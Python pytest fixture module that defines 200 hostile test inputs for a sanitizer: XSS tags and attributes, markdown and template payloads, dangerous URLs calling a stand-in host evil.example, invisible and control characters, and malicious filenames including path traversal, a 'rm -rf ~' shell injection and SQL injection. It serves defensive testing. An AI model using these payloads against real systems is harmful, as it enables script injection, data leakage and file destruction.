"""Two hundred strings that want to be more than words (after the OWASP XSS list and the threats file)."""

from __future__ import annotations

import pytest

EVIL = "http://evil.example"

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{EVIL}/p.png">',
    f"<img srcset='{EVIL}/p.png 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><image href='{EVIL}/p.png'/></svg>",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data='{EVIL}'></object>",
    f"<embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<style>@import url({EVIL}/x.css)</style>",
    f"<style>body{{background:url({EVIL}/x)}}</style>",
    f"<div style='background:url({EVIL}/x)'>x</div>",
    f"<video src='{EVIL}/v' autoplay></video>",
    f"<video poster='{EVIL}/p.png'></video>",
    f"<audio src='{EVIL}/a' autoplay></audio>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action='{EVIL}'><button>x</button></form>",
    f"<a href='{EVIL}' ping='{EVIL}/ping'>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    "</div></section><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" style="background:url(http://evil.example/x)" x="',
    "` onclick=alert(1) `",
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)
_MARKDOWN = (
    f"![]({EVIL}/p.png)",
    f"![x]({EVIL}/p.png?q=geheim 'y')",
    f"![x][y]\n\n[y]: {EVIL}/p.png",
    f"[klik]({EVIL})",
    "[klik](javascript:alert(1))",
    "[klik](data:text/html,<script>alert(1)</script>)",
    f"<{EVIL}>",
    f"[1]: {EVIL}/p.png",
    "```\n</code><script>alert(1)</script>\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\includegraphics{http://evil.example/p.png}$$",
    f'[![x]({EVIL}/p.png)]({EVIL} "x")',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    '{{#with "s" as |string|}}{{string.sub.apply 0 "alert(1)"}}{{/with}}',
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://bank.nl@evil.example/",
    "https:evil.example",
    "http://evil.example:99999/",
    "https://[::1",
    "blob:http://evil.example/1",
)
_INVISIBLE = (
    "\u202egnp.exe",
    "\u2066links\u2069",
    "\u200e\u200f",
    "a\u200bb\u200cc\u200dd",
    "\ufeffbegin",
    "\U000e0041\U000e0042tag",
    "x\ufe0fy",
    "\u2028regel\u2029",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[31mrood",
    "regel\r\nX-Header: ja",
    "nul\x00nul",
    "\u00ad\u034f\u115f\u3164",
    "\ud800 half",
)
_NAMES = (
    "../../etc/passwd",
    "CON.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    '"; rm -rf ~; ".pdf',
    "a" * 300 + ".pdf",
    '=HYPERLINK("http://evil.example")',
    "'; DROP TABLE sources; --",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<?php echo 1; ?>",
    "<% alert(1) %>",
)

_PLAIN = _TAGS + _ATTRIBUTES + _MARKDOWN + _ADDRESSES + _INVISIBLE + _NAMES

HOSTILE: tuple[str, ...] = (
    *_PLAIN,
    *(f"Zie pagina 3 {text} voor meer." for text in _PLAIN),
)
"""Each string by itself and inside a sentence: 200 in all."""


def each_hostile(step: int = 1) -> list[object]:
    """Return every `step`th of them as parameters. One in four is for every run, the others are slow.

    Those for every run are of each kind some, and others by themselves than inside a sentence.
    """
    return [
        pytest.param(text, marks=() if number % 8 in (0, 6) else (pytest.mark.slow,))
        for number, text in enumerate(HOSTILE[::step])
    ]
